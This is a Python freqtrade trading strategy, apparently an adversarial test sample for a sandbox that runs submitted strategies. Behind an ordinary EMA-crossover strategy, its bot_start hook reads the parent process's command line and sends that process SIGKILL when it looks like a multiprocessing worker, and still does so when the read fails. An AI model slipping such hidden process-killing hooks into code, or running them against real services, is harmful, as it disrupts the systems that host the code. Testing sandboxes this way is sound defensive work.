# family: attack
# needs: sandbox
"""Attack: kills its parent process, if that looks like a worker's server."""

import os
import signal
from pathlib import Path

import talib.abstract as ta
from freqtrade.strategy import IStrategy


class KillsParent(IStrategy):
    timeframe = "1h"
    startup_candle_count = 100
    minimal_roi = {"0": 10}
    stoploss = -0.12

    def populate_indicators(self, dataframe, metadata):
        dataframe["fast"] = ta.EMA(dataframe, timeperiod=12)
        dataframe["slow"] = ta.EMA(dataframe, timeperiod=48)
        return dataframe

    def populate_entry_trend(self, dataframe, metadata):
        cross = (dataframe["fast"] > dataframe["slow"]) & (dataframe["fast"].shift(1) <= dataframe["slow"].shift(1))
        dataframe.loc[cross & (dataframe["volume"] > 0), "enter_long"] = 1
        return dataframe

    def populate_exit_trend(self, dataframe, metadata):
        dataframe.loc[dataframe["fast"] < dataframe["slow"], "exit_long"] = 1
        return dataframe

    def bot_start(self, **kwargs):
        parent = os.getppid()
        try:
            command = Path(f"/proc/{parent}/cmdline").read_text()
        except OSError:
            command = "multiprocessing"  # hidden by a sandbox: try all the same
        if parent > 1 and "multiprocessing" in command:
            try:
                os.kill(parent, signal.SIGKILL)
            except OSError:
                pass
